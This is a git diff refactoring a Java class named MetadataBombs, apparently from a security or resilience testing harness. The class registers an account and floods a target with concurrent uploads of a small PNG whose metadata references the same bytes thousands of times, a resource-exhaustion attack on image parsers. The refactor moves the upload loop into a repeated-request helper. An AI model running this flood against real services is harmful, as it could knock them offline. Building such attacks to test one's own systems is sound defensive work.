@@ -5,8 +5,7 @@ import java.io.IOException;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
 import java.nio.charset.StandardCharsets;
-import java.util.ArrayList;
-import java.util.List;
+import java.time.Duration;
 import java.util.zip.CRC32;
 
 /** Photos of half a megabyte whose metadata points at the same bytes thousands of times. */
@@ -21,8 +20,6 @@ final class MetadataBombs implements Attack {
   private static final int BYTE = 1;
   private static final byte[] SIGNATURE = {(byte) 137, 'P', 'N', 'G', 13, 10, 26, 10};
 
-  private Target.Account attacker = new Target.Account("", "");
-
   @Override
   public String name() {
     return "metadata-bombs";
@@ -35,35 +32,11 @@ final class MetadataBombs implements Attack {
   }
 
   @Override
-  public void prepare(Target target) throws IOException, InterruptedException {
-    attacker = target.register("photographer");
-  }
-
-  @Override
-  public void run(Target target) throws InterruptedException {
+  public Assault prepare(Target target) throws IOException, InterruptedException {
+    Target.Account attacker = target.register("photographer");
     byte[] bomb = png();
-    List<Thread> uploaders = new ArrayList<>();
-    for (int i = 0; i < UPLOADERS; i++) {
-      uploaders.add(Thread.startVirtualThread(() -> upload(target, bomb)));
-    }
-    try {
-      for (Thread uploader : uploaders) {
-        uploader.join();
-      }
-    } finally {
-      uploaders.forEach(Thread::interrupt);
-    }
-  }
-
-  private void upload(Target target, byte[] bomb) {
-    try {
-      while (true) {
-        target.ask(Target.upload(attacker, "image/png", bomb));
-        Thread.sleep(20);
-      }
-    } catch (IOException | InterruptedException ended) {
-      Thread.currentThread().interrupt();
-    }
+    return new RepeatedRequests(
+        target, UPLOADERS, Duration.ofMillis(20), i -> Target.upload(attacker, "image/png", bomb));
   }
 
   /** A picture of one pixel with an {@code eXIf} chunk. */
